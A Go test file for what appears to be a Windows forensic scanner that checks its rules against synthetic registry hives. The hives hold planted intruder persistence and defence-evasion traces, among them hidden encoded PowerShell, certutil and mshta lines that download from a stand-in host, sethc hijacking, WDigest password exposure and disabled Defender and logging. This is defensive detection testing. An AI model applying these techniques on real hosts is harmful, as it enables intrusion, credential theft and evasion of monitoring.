package postern_test

import (
	"bytes"
	"encoding/binary"
	"slices"
	"strings"
	"testing"

	"postern/evidence/evidencetest"
)

// entry is one value of a hive: "SYSTEM", "SOFTWARE", "anna" or "classes" of anna; a
// key of SYSTEM stands below its control set.
type entry struct {
	hive, key, name string
	data            any
}

// mark is what somebody left on a Windows host: values or a file, the rule that must
// find it, and what its finding says of it.
type mark struct {
	rule, says string
	entries    []entry
}

// service is a service of its own process; more are values of its key or of keys below.
func service(name, command string, more ...entry) []entry {
	all := []entry{{"SYSTEM", `Services\` + name, "ImagePath", command}, {"SYSTEM", `Services\` + name, "Type", uint32(16)}, {"SYSTEM", `Services\` + name, "Start", uint32(2)}}
	return append(all, more...)
}

func system(key, name string, data any) []entry   { return []entry{{"SYSTEM", key, name, data}} }
func software(key, name string, data any) []entry { return []entry{{"SOFTWARE", key, name, data}} }
func anna(key, name string, data any) []entry     { return []entry{{"anna", key, name, data}} }

const (
	runKey    = `Microsoft\Windows\CurrentVersion\`
	ntKey     = `Microsoft\Windows NT\CurrentVersion\`
	cacheKey  = ntKey + `Schedule\TaskCache\`
	rulesKey  = `Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules`
	encoded   = `powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`
	channel   = runKey + `WINEVT\Channels\`
	realTime  = `Policies\Microsoft\Windows Defender\Real-Time Protection`
	systemLog = `Control\WMI\Autologger\EventLog-System`
)

// cached is a task of the registry.
func cached(path, id, command, arguments string, more ...entry) []entry {
	all := []entry{{"SOFTWARE", cacheKey + `Tree\` + path, "Id", id}, {"SOFTWARE", cacheKey + `Tree\` + path, "Index", uint32(3)}, {"SOFTWARE", cacheKey + `Tasks\` + id, "Actions", action(command, arguments)}}
	return append(all, more...)
}

// action is the Actions value of a task with one program.
func action(program, arguments string) []byte {
	text := func(s string) []byte {
		w := evidencetest.Wide(s)
		return append(binary.LittleEndian.AppendUint32(nil, uint32(len(w))), w...)
	}
	return slices.Concat([]byte{3, 0}, text("Author"), []byte{0x66, 0x66}, text(""), text(program), text(arguments), text(""), []byte{0, 0})
}

// plantedWindows are traces of the campaigns against SmarterMail (Storm-1175, Warlock)
// and of the techniques of ATT&CK that the rules name.
var plantedWindows = []mark{
	{"start.program-in-temporary-folder", "mailmount", service("WinSrvUpd", `C:\Windows\Temp\mailmount1769600000\svc.exe`)},
	{"start.system-name-elsewhere", "conhost.exe", service("NetConsole", `C:\ProgramData\conhost.exe tunnel run --token abc`)},
	{"start.program-in-odd-folder", "yuze.dll", service("YuzeNet", `rundll32.exe C:\ProgramData\yuze.dll,RunYuze`)},
	{"start.service-is-a-shell", "BTOBTO", service("BTOBTO", `%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat`)},
	{"start.remote-administration", "PSEXESVC", service("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`)},
	{"start.remote-execution", "kqzvbnrt", service("kqzvbnrt", `%systemroot%\kqzvbnrt.exe`)},
	{"start.service-library-elsewhere", "n.dll", service("NetSvcX", `%SystemRoot%\System32\svchost.exe -k netsvcs`, entry{"SYSTEM", `Services\NetSvcX\Parameters`, "ServiceDll", `C:\Drop\n.dll`})},
	{"tool.remote-access", "SimpleHelp", service("Remote Access Service", `"C:\ProgramData\JWrapper-Remote Access\JWAppsSharedConfig\SimpleService.exe"`)},
	{"start.program-in-temporary-folder", "meshagent", service("Mesh Agent", `C:\Users\Public\meshagent.exe`)},
	{"start.suspicious-command", "when it", service("Reporter", `C:\Program Files\Reporter\r.exe`, entry{"SYSTEM", `Services\Reporter`, "FailureCommand", encoded + " #when it fails"})},
	{"start.program-in-temporary-folder", "NPPSpy", system(`Services\NPPSpy\NetworkProvider`, "ProviderPath", `C:\Users\Public\NPPSpy.dll`)},
	{"start.unknown-lsa-package", "mimilib", system(`Control\Lsa`, "Security Packages", []string{"", "mimilib"})},
	{"start.unknown-lsa-package", "pwfilter", system(`Control\Lsa`, "Notification Packages", []string{"scecli", "pwfilter"})},
	{"setting.port-forwarded", "10.0.0.5", system(`Services\PortProxy\v4tov4\tcp`, "0.0.0.0/8443", "10.0.0.5/3389")},
	{"start.unknown-system-library", "drop/pm.dll", system(`Control\Print\Monitors\Net`, "Driver", `C:\Drop\pm.dll`)},
	{"start.print-library", "mon64", system(`Control\Print\Monitors\Update`, "Driver", "mon64.dll")},
	{"start.unknown-system-library", "tp.dll", system(`Services\W32Time\TimeProviders\Upd`, "DllName", `C:\Users\anna\tp.dll`)},
	{"start.library-in-every-program", "AppCertDlls", system(`Control\Session Manager\AppCertDlls`, "Default", `C:\Drop\c.dll`)},
	{"start.unknown-system-library", "BootExecute", system(`Control\Session Manager`, "BootExecute", []string{"autocheck autochk *", "bootx"})},
	{"setting.passwords-in-memory", "UseLogonCredential", system(`Control\SecurityProviders\WDigest`, "UseLogonCredential", uint32(1))},
	{"setting.logon-by-hash", "DisableRestrictedAdmin", system(`Control\Lsa`, "DisableRestrictedAdmin", uint32(0))},
	{"setting.firewall-opened", "Public", system(rulesKey, "{1}", `v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=4444|App=C:\Users\Public\x.exe|Name=Updates|`)},
	{"start.program-in-odd-folder", "main.exe", software(runKey+"Run", "Remote", `C:\ProgramData\main.exe`)},
	{"start.suspicious-command", "SQBFAFg", software(`WOW6432Node\`+runKey+"RunOnce", "!up", encoded)},
	{"start.accessibility-program-replaced", "sethc.exe", software(ntKey+`Image File Execution Options\sethc.exe`, "Debugger", `C:\Windows\System32\cmd.exe`)},
	{"start.debugger-set", "SilentProcessExit", software(ntKey+`SilentProcessExit\MailService.exe`, "MonitorProcess", `C:\Drop\m.exe`)},
	{"start.winlogon-changed", "Userinit", software(ntKey+"Winlogon", "Userinit", `C:\Windows\system32\userinit.exe,C:\Drop\y.exe`)},
	{"start.library-in-every-program", "AppInit", append(software(ntKey+"Windows", "AppInit_DLLs", `C:\Drop\i.dll`), software(ntKey+"Windows", "LoadAppInit_DLLs", uint32(1))...)},
	{"start.unknown-system-library", "h.dll", software(`Microsoft\NetSh`, "helper", `C:\ProgramData\h.dll`)},
	{"start.program-in-temporary-folder", "PerfLogs", software(`Microsoft\Active Setup\Installed Components\{A}`, "StubPath", `C:\PerfLogs\s.exe`)},
	{"start.program-in-temporary-folder", "ar.bat", software(`Microsoft\Command Processor`, "AutoRun", `C:\Users\Public\ar.bat`)},
	{"start.program-in-temporary-folder", "prof.dll", system(`Control\Session Manager\Environment`, "COR_PROFILER_PATH", `C:\Windows\Temp\prof.dll`)},
	{"start.program-in-temporary-folder", "sso.dll", append(software(runKey+`ShellServiceObjectDelayLoad`, "Net", "{D}"), software(`Classes\CLSID\{D}\InprocServer32`, "", `C:\Users\Public\sso.dll`)...)},
	{"setting.defender-wide-exclusion", `C:\`, software(`Microsoft\Windows Defender\Exclusions\Paths`, `C:\`, uint32(0))},
	{"setting.defender-wide-exclusion", "powershell", software(`Policies\Microsoft\Windows Defender\Exclusions\Processes`, "powershell.exe", "0")},
	{"setting.defender-off", "DisableRealtimeMonitoring", software(realTime, "DisableRealtimeMonitoring", uint32(1))},
	{"setting.logging-off", "PowerShell", software(channel+"Microsoft-Windows-PowerShell/Operational", "Enabled", uint32(0))},
	{"setting.logging-off", "ScriptBlockLogging", software(`Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging`, "EnableScriptBlockLogging", uint32(0))},
	{"setting.logging-off", "EventLog-System", system(systemLog, "Start", uint32(0))},
	{"start.hidden-task", "Updater", cached(`Microsoft\Windows\Updater`, "{B}", `C:\Windows\System32\cmd.exe`, "/c start")},
	{"start.suspicious-command", "Cache", cached(`Cache`, "{C}", `mshta.exe`, "http://192.0.2.9/a.hta", entry{"SOFTWARE", cacheKey + `Tree\Cache`, "SD", []byte{1, 0, 4, 128, 0, 0, 0, 0}})},
	{"start.program-in-temporary-folder", "appdata/local/temp/x.exe", anna(`Software\`+runKey+"Run", "x", `%TEMP%\x.exe`)},
	{"start.program-in-temporary-folder", "logon.bat", anna("Environment", "UserInitMprLogonScript", `C:\Users\Public\logon.bat`)},
	{"start.program-in-temporary-folder", "saver.scr", anna(`Control Panel\Desktop`, "SCRNSAVE.EXE", `C:\Users\Public\saver.scr`)},
	{"start.winlogon-changed", "anna", anna(`Software\`+ntKey+"Winlogon", "Shell", `explorer.exe, C:\Users\anna\AppData\Roaming\Net\s.exe`)},
	{"trace.ran-in-temporary-folder", "bam1.exe", system(`Services\bam\State\UserSettings\S-1-5-21-1-2-3-1001`, `\Device\HarddiskVolume3\Users\Public\bam1.exe`, make([]byte, 24))},
	{"trace.system-name-elsewhere", "svchost.exe", system(`Control\Session Manager\AppCompatCache`, "AppCompatCache", shimmed(`C:\ProgramData\svchost.exe`))},
	{"trace.ran-in-temporary-folder", "assist.exe", anna(`Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\Count`, `P:\Hfref\Choyvp\nffvfg.rkr`, make([]byte, 72))},
	{"tool.attack", "mimikatz.exe", []entry{{"classes", `Local Settings\Software\Microsoft\Windows\Shell\MuiCache`, `C:\Users\anna\Downloads\mimikatz.exe.FriendlyAppName`, "mimikatz"}}},
	{"start.class-of-user", "c.dll", []entry{{"classes", `CLSID\{C}\InprocServer32`, "", `C:\Users\anna\AppData\Local\Temp\c.dll`}}},
}

// shimmed is the value of a ShimCache of Windows 10 with one program.
func shimmed(path string) []byte {
	w := evidencetest.Wide(path)
	body := slices.Concat(binary.LittleEndian.AppendUint16(nil, uint16(len(w))), w, make([]byte, 12))
	return slices.Concat([]byte{0x34}, make([]byte, 0x33), []byte("10ts"), make([]byte, 4), binary.LittleEndian.AppendUint32(nil, uint32(len(body))), body)
}

// recycledIndex is an index of the recycle bin for a file.
func recycledIndex(path string) string {
	return "\x02" + strings.Repeat("\x00", 23) + string(append(binary.LittleEndian.AppendUint32(nil, uint32(len(path))), evidencetest.Wide(path)...))
}

// plantedFiles are files of the same host.
var plantedFiles = []struct{ path, text, rule, says string }{
	{"Windows/System32/Tasks/GoogleUpdateTaskMachineQC", taskFile(`C:\Users\Public\t.exe`, ""), "start.program-in-temporary-folder", "t.exe"},
	{"Windows/System32/wbem/Repository/OBJECTS.DATA", "CommandLineEventConsumer\x00\x00" + encoded + "\x00\x00\x00SysCheck\x00 \x00CommandLineEventConsumer.Name=\"SysCheck\"\x00__EventFilter.Name=\"SysCheck\"\x00", "start.wmi-consumer", "SysCheck"},
	{"Windows/System32/inetsrv/config/applicationHost.config", `<configuration><system.webServer><globalModules><add name="HttpFast" image="C:\inetpub\temp\m.dll" /></globalModules></system.webServer></configuration>`, "start.web-server-module", "m.dll"},
	{"Users/anna/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "whoami\r\ncertutil -urlcache -f http://192.0.2.9/a.exe a.exe\r\n", "trace.suspicious-command", "certutil"},
	{"$Recycle.Bin/S-1-5-21-1-2-3-1001/$IAAAAAA.aspx", recycledIndex(`C:\inetpub\wwwroot\gone.aspx`), "trace.ran-in-temporary-folder", "gone.aspx"},
	{"ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/02/A", string(evidencetest.Wide("Backdoor:ASP/Chopper.A!dha")) + "\x00\x00\x00\x00" + string(evidencetest.Wide(`C:\inetpub\wwwroot\m.aspx`)) + "\x00\x00", "trace.defender-found", "Chopper"},
	{"Windows/System32/drivers/etc/hosts", "127.0.0.1 wdcp.microsoft.com\r\n", "setting.guard-redirected", "wdcp"},
}

func taskFile(command, arguments string) string {
	return `<?xml version="1.0"?><Task><Settings><Enabled>true</Enabled></Settings><Actions><Exec><Command>` + command + `</Command><Arguments>` + arguments + `</Arguments></Exec></Actions></Task>`
}

// lawfulWindows are what Windows, makers of programs and administrators leave that
// looks like it.
var lawfulWindows = [][]entry{
	system(`Services\bam\State\UserSettings\S-1-5-21-1-2-3-1001`, `\Device\HarddiskVolume3\Windows\System32\svchost.exe`, make([]byte, 24)),
	system(`Control\Session Manager\AppCompatCache`, "AppCompatCache", shimmed(`C:\Windows\TEMP\{605A2280-1237-4AB3-9B33-3673E9E66D88}\MpSigStub.exe`)),
	anna(`Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{F4E57C4B-2036-45F0-A9AB-443BCFE33D9F}\Count`, `P:\Hfref\Choyvp\Qrfxgbc\Zbmvyyn Sversbk.yax`, make([]byte, 72)),
	service("MailService", `"C:\Program Files (x86)\SmarterTools\SmarterMail\Service\MailService.exe"`),
	service("MSSQLSERVER", `"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER`),
	service("WinDefend", `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe"`),
	service("VMTools", `"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"`),
	service("AnyDesk", `"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service`),
	service("Zabbix Agent", `"C:\zabbix\bin\zabbix_agentd.exe" --config "C:\zabbix\zabbix_agentd.conf"`),
	service("MySQL80", `C:\mysql\bin\mysqld.exe --defaults-file=C:\mysql\my.ini MySQL80`),
	service("node-app", `"C:\nssm\win64\nssm.exe"`),
	service("Schedule", `%systemroot%\system32\svchost.exe -k netsvcs -p`, entry{"SYSTEM", `Services\Schedule\Parameters`, "ServiceDll", `%systemroot%\system32\schedsvc.dll`}),
	service("WinHttpAutoProxySvc", `%SystemRoot%\system32\svchost.exe -k LocalService`, entry{"SYSTEM", `Services\WinHttpAutoProxySvc\Parameters`, "ServiceDll", "winhttp.dll"}),
	service("TermService", `%SystemRoot%\System32\svchost.exe -k termsvcs`, entry{"SYSTEM", `Services\TermService`, "FailureCommand", `customScript.cmd`}),
	service("gupdate", `"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc`),
	service("ClickToRunSvc", `"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeClickToRun.exe" /service`),
	service("Tomcat9", `C:\Program Files\Apache Software Foundation\Tomcat 9.0\bin\Tomcat9.exe //RS//Tomcat9`),
	service("EraAgentSvc", `"C:\Program Files\ESET\RemoteAdministrator\Agent\ERAAgent.exe"`),
	service("MpKslDrv", `\??\C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{1}\MpKslDrv.sys`),
	system(`Services\LanmanWorkstation\NetworkProvider`, "ProviderPath", `%SystemRoot%\System32\ntlanman.dll`),
	system(`Control\Lsa`, "Authentication Packages", []string{"msv1_0"}),
	system(`Control\Lsa\OSConfig`, "Security Packages", []string{"kerberos", "msv1_0", "schannel", "wdigest", "tspkg", "pku2u", "cloudAP"}),
	system(`Control\SecurityProviders`, "SecurityProviders", "credssp.dll"),
	system(`Control\Print\Environments\Windows x64\Print Processors\hpzppWN7`, "Driver", "hpzppWN7.dll"),
	system(`Control\Print\Monitors\Standard TCP/IP Port`, "Driver", "tcpmon.dll"),
	system(`Control\Print\Environments\Windows x64\Print Processors\winprint`, "Driver", "winprint.dll"),
	system(`Services\W32Time\TimeProviders\VMICTimeProvider`, "DllName", `%SystemRoot%\System32\vmictimeprovider.dll`),
	system(`Control\Session Manager`, "BootExecute", []string{"autocheck autochk *"}),
	system(`Control\Session Manager\KnownDLLs`, "ole32", "ole32.dll"),
	system(`Control\SafeBoot`, "AlternateShell", "cmd.exe"),
	system(rulesKey, "{2}", `v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=25|App=C:\Program Files (x86)\SmarterTools\SmarterMail\Service\MailService.exe|Name=SmarterMail|`),
	system(rulesKey, `TCP Query User{3}C:\users\anna\desktop\tool\bin\tool.exe`, `v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|Profile=Private|App=C:\users\anna\desktop\tool\bin\tool.exe|Name=tool.exe|Desc=tool.exe|`),
	system(`Control\Terminal Server`, "fDenyTSConnections", uint32(0)),
	system(`Control\Lsa`, "RunAsPPL", uint32(1)),
	system(systemLog, "Start", uint32(1)),
	software(ntKey+"Winlogon", "Shell", "explorer.exe"),
	software(ntKey+"Winlogon", "Userinit", `C:\Windows\system32\userinit.exe,`),
	software(ntKey+`Winlogon\GPExtensions\{D76B9641-3288-4f75-942D-087DE603E3EA}`, "DllName", `C:\Program Files\LAPS\CSE\AdmPwd.dll`),
	software(ntKey+"Windows", "AppInit_DLLs", ""),
	software(ntKey+`Image File Execution Options\w3wp.exe`, "Debugger", `"C:\Windows\system32\vsjitdebugger.exe"`),
	software(runKey+"Run", "SecurityHealth", `%windir%\system32\SecurityHealthSystray.exe`),
	software(runKey+"Run", "VMware User Process", `"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr`),
	software(runKey+"RunOnce", "{f4220b74-9edd-4ded-bc8b-0342c1e164d8}", `"C:\ProgramData\Package Cache\{f4220b74-9edd-4ded-bc8b-0342c1e164d8}\VC_redist.x64.exe" /burn.runonce`),
	software(`Microsoft\NetSh`, "4", "ifmon.dll"),
	software(`Microsoft\Active Setup\Installed Components\{89820200-ECBD-11cf-8B85-00AA005B4340}`, "StubPath", `U`),
	software(`Microsoft\Active Setup\Installed Components\{2C7339CF-2B09-4501-B3F3-F3508C9228ED}`, "StubPath", `%SystemRoot%\system32\regsvr32.exe /s /n /i:/UserInstall %SystemRoot%\system32\themeui.dll`),
	software(`Microsoft\Active Setup\Installed Components\{8A69D345-D564-463c-AFF1-A69D9E530F96}`, "StubPath", `"C:\Program Files\Google\Chrome\Application\120.0.6099.130\Installer\chrmstp.exe" --configure-user-settings --verbose-logging --system-level`),
	append(software(runKey+`Explorer\ShellServiceObjects\{E}`, "AutoStart", ""), software(`Classes\CLSID\{E}\InprocServer32`, "", `%SystemRoot%\system32\stobject.dll`)...),
	append(software(runKey+`Authentication\Credential Providers\{F}`, "", "Duo"), software(`Classes\CLSID\{F}\InprocServer32`, "", `C:\Program Files\Duo Security\WindowsLogon\DuoCredProv.dll`)...),
	software(`Microsoft\Windows Defender\Exclusions\Paths`, `C:\SmarterMail`, uint32(0)),
	software(`Microsoft\Windows Defender\Exclusions\Processes`, `MailService.exe`, uint32(0)),
	software(channel+"Microsoft-Windows-PowerShell/Operational", "Enabled", uint32(1)),
	software(runKey+`Policies\System`, "EnableLUA", uint32(1)),
	cached(`Microsoft\Windows\Chkdsk\ProactiveScan`, "{1}", `%windir%\system32\rundll32.exe`, `/d acproxy.dll,PerformAutochkOperations`, entry{"SOFTWARE", cacheKey + `Tree\Microsoft\Windows\Chkdsk\ProactiveScan`, "SD", []byte{1, 0, 4, 128, 0, 0, 0, 0}}),
	cached(`Backup`, "{2}", `powershell.exe`, `-NoProfile -ExecutionPolicy Bypass -File C:\Scripts\backup.ps1`, entry{"SOFTWARE", cacheKey + `Tree\Backup`, "SD", []byte{1, 0, 4, 128, 0, 0, 0, 0}}),
	cached(`win-acme renew`, "{3}", `C:\win-acme\wacs.exe`, `--renew --baseuri "https://acme-v02.api.letsencrypt.org/"`, entry{"SOFTWARE", cacheKey + `Tree\win-acme renew`, "SD", []byte{1, 0, 4, 128, 0, 0, 0, 0}}),
	anna(`Software\`+runKey+"Run", "OneDrive", `"C:\Users\anna\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`),
	anna(`Software\`+runKey+"Run", "com.squirrel.Teams.Teams", `C:\Users\anna\AppData\Local\Microsoft\Teams\Update.exe --processStart "Teams.exe" --process-start-args "--system-initiated"`),
	anna(`Software\`+runKey+"RunOnce", "Delete Cached Update Binary", `C:\Windows\system32\cmd.exe /q /c del /q "C:\Users\anna\AppData\Local\Microsoft\OneDrive\Update\OneDriveSetup.exe"`),
	anna(`Software\`+runKey+"RunOnce", "Uninstall 21.220", `C:\Windows\system32\cmd.exe /q /c rmdir /s /q "C:\Users\anna\AppData\Local\Microsoft\OneDrive\21.220"`),
	anna(`Control Panel\Desktop`, "SCRNSAVE.EXE", `C:\Windows\system32\scrnsave.scr`),
	{{"classes", `CLSID\{0}\InprocServer32`, "", `C:\Users\anna\AppData\Local\Microsoft\OneDrive\24.1\FileSyncShell64.dll`}},
	{{"classes", `CLSID\{00}\LocalServer32`, "", `"C:\Users\anna\AppData\Local\Microsoft\Teams\current\Teams.exe"`}},
}

var lawfulFiles = map[string]string{
	"Windows/System32/Tasks/GoogleUpdateTaskMachineCore":                    taskFile(`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, "/c"),
	"Windows/System32/Tasks/SmarterMail backup":                             taskFile(`C:\Windows\System32\Robocopy.exe`, `C:\SmarterMail D:\Backup /MIR /LOG:C:\Temp\robocopy.log`),
	"Windows/System32/wbem/Repository/OBJECTS.DATA":                         "NTEventLogEventConsumer\x00\x00SCM Event Log Consumer\x00NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\"\x00CommandLineEventConsumer\x00\x00cscript KernCap.vbs\x00\x00BVTConsumer\x00CommandLineEventConsumer.Name=\"BVTConsumer\"\x00",
	"Windows/System32/inetsrv/config/applicationHost.config":                `<configuration><system.webServer><globalModules><add name="UriCacheModule" image="%windir%\System32\inetsrv\cachuri.dll" /><add name="AspNetCoreModuleV2" image="%ProgramFiles%\IIS\Asp.Net Core Module\V2\aspnetcorev2.dll" /><add name="RewriteModule" image="%SystemRoot%\system32\inetsrv\rewrite.dll" /></globalModules><handlers><add name="PHP" scriptProcessor="C:\php\php-cgi.exe" /></handlers></system.webServer></configuration>`,
	"Windows/System32/drivers/etc/hosts":                                    "127.0.0.1 localhost\r\n192.0.2.5 mail.example # own\r\n0.0.0.0 ads.example\r\n",
	"ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/desktop.ini": "[.ShellClassInfo]\r\n",
}

// hives makes the hives of a host from values.
func hives(marks ...[]entry) map[string]string {
	roots := map[string]*evidencetest.HiveKey{"SYSTEM": {Name: "ROOT"}, "SOFTWARE": {Name: "ROOT"}, "anna": {Name: "ROOT"}, "classes": {Name: "ROOT"}, "SAM": {Name: "ROOT"}}
	for _, m := range append(marks, []entry{{"SYSTEM", "", "", nil}}) {
		for _, e := range m {
			path := e.key
			if e.hive == "SYSTEM" {
				path = `ControlSet001\` + e.key
			}
			at := roots[e.hive]
			for part := range strings.FieldsFuncSeq(path, func(c rune) bool { return c == '\\' }) {
				i := slices.IndexFunc(at.Keys, func(k evidencetest.HiveKey) bool { return strings.EqualFold(k.Name, part) })
				if i < 0 {
					at.Keys, i = append(at.Keys, evidencetest.HiveKey{Name: part}), len(at.Keys)
				}
				at = &at.Keys[i]
			}
			if e.data != nil {
				at.Values = append(at.Values, evidencetest.HiveValue{Name: e.name, Data: e.data})
			}
		}
	}
	roots["SYSTEM"].Keys = append(roots["SYSTEM"].Keys, evidencetest.HiveKey{Name: "Select", Values: []evidencetest.HiveValue{{Name: "Current", Data: uint32(1)}}})
	files := map[string]string{"Windows/System32/kernel32.dll": "MZ", "Windows/System32/ntdll.dll": "MZ", "Program Files/Common Files/x.txt": ""}
	for name, path := range map[string]string{"SYSTEM": "Windows/System32/config/SYSTEM", "SOFTWARE": "Windows/System32/config/SOFTWARE", "SAM": "Windows/System32/config/SAM",
		"anna": "Users/anna/NTUSER.DAT", "classes": "Users/anna/AppData/Local/Microsoft/Windows/UsrClass.dat"} {
		files[path] = string(evidencetest.Hive(*roots[name]))
	}
	return files
}

// localAccount is an account of the SAM: its F and V values.
func localAccount(rid, name string, control uint16) []entry {
	f, v := make([]byte, 80), make([]byte, 0xcc)
	binary.LittleEndian.PutUint64(f[0x18:], 133400000000000000)
	binary.LittleEndian.PutUint16(f[0x38:], control)
	binary.LittleEndian.PutUint32(v[0x10:], uint32(2*len(name)))
	key := `SAM\Domains\Account\Users\` + rid
	return []entry{{"SAM", key, "F", f}, {"SAM", key, "V", append(v, evidencetest.Wide(name)...)},
		{"SAM", `SAM\Domains\Account`, "V", slices.Concat(make([]byte, 12), []byte{1, 0, 0, 0, 2, 0, 0, 0, 3, 0, 0, 0})}}
}

// TestPlantedWindowsIsFound: each planted artefact of a Windows host is found by its
// rule.
func TestPlantedWindowsIsFound(t *testing.T) {
	marks := [][]entry{localAccount("000003EA", "support$", 0x210), localAccount("000001F5", "Guest", 0x214)}
	for _, m := range plantedWindows {
		marks = append(marks, m.entries)
	}
	files := hives(marks...)
	for _, p := range plantedFiles {
		files[p.path] = p.text
	}
	found := leftOn(t, files)
	has := func(rule, says string) bool {
		return slices.ContainsFunc(found, func(l string) bool {
			return strings.Contains(l, " "+rule+" ") && strings.Contains(strings.ToLower(l), strings.ToLower(says))
		})
	}
	for _, m := range plantedWindows {
		if !has(m.rule, m.says) {
			t.Errorf("%s does not find %q: %q", m.rule, m.says, m.entries)
		}
	}
	for _, p := range plantedFiles {
		if !has(p.rule, p.says) {
			t.Errorf("%s: %s does not find it", p.path, p.rule)
		}
	}
	for rule, says := range map[string]string{"account.hidden-name": "support$", "account.guest-enabled": "Guest"} {
		if !has(rule, says) {
			t.Errorf("%s does not find %s", rule, says)
		}
	}
	if t.Failed() {
		t.Log(strings.Join(found, "\n"))
	}
}

// TestLawfulWindowsIsQuiet: none of the lawful look-alikes is more than low.
func TestLawfulWindowsIsQuiet(t *testing.T) {
	files := hives(append(lawfulWindows, localAccount("000001F4", "Administrator", 0x210), localAccount("000001F5", "Guest", 0x215), localAccount("000003E9", "anna", 0x210))...)
	for path, text := range lawfulFiles {
		files[path] = text
	}
	if !bytes.HasPrefix([]byte(files["Users/anna/NTUSER.DAT"]), []byte("regf")) {
		t.Fatal("no hives were made")
	}
	for _, line := range leftOn(t, files) {
		if !strings.HasPrefix(line, "low ") && !strings.HasPrefix(line, "info ") {
			t.Error(line)
		}
	}
}

// realHosts are the findings above low of the real hives in corpora/registry, each
// looked at: the service that PsExec left and passwords kept readable on a host that
// was entered, the sample that its maker put into a user's hive, and a key that keeps
// the event log silent (made to format ReFS).
var realHosts = map[string][]string{
	"SYSTEM":             {"start.remote-administration PSEXESVC", "setting.passwords-in-memory UseLogonCredential", "start.program-in-odd-folder not_a_malware"},
	"SYSTEM_2":           {"start.program-in-odd-folder not_a_malware"},
	"SYSTEM_B":           {"start.program-in-odd-folder not_a_malware"},
	"SYSTEM_WIN_10_1709": {"start.program-in-odd-folder not_a_malware", "setting.logging-off MiniNt"},
}

// TestRealHivesAreQuiet: of what starts, settings and accounts of real hosts nothing
// else is more than low.
func TestRealHivesAreQuiet(t *testing.T) {
	real := func(name string) string { return string(evidencetest.Corpus(t, "registry/"+name)) }
	users := map[string]string{}
	for _, name := range []string{"NTUSER.DAT", "NTUSER_BAGMRU.DAT", "NTUSER-WSL.DAT", "NTUSER_with_winscp.DAT", "NTUSER_modified.DAT"} {
		users[name] = real(name)
	}
	for system, want := range realHosts {
		files := map[string]string{"Windows/System32/config/SYSTEM": real(system), "Windows/System32/config/SAM": real("SAM"), "Program Files/Common Files/x.txt": "",
			"Users/anna/AppData/Local/Microsoft/Windows/UsrClass.dat": real("UsrClass.dat")}
		for name, data := range users {
			files["Users/"+strings.TrimSuffix(name, ".DAT")+"/NTUSER.DAT"] = data
		}
		seen := map[string]bool{}
		for _, line := range leftOn(t, files) {
			word := strings.Fields(line)
			if word[0] == "low" || word[0] == "info" || !strings.HasPrefix(word[1], "start.") && !strings.HasPrefix(word[1], "setting.") && !strings.HasPrefix(word[1], "account.") {
				continue
			}
			i := slices.IndexFunc(want, func(w string) bool {
				rule, says, _ := strings.Cut(w, " ")
				return rule == word[1] && strings.Contains(line, says)
			})
			if i < 0 {
				t.Errorf("%s: %s", system, line)
				continue
			}
			seen[want[i]] = true
		}
		if len(seen) != len(want) {
			t.Errorf("%s: found %v of %q", system, seen, want)
		}
	}
}
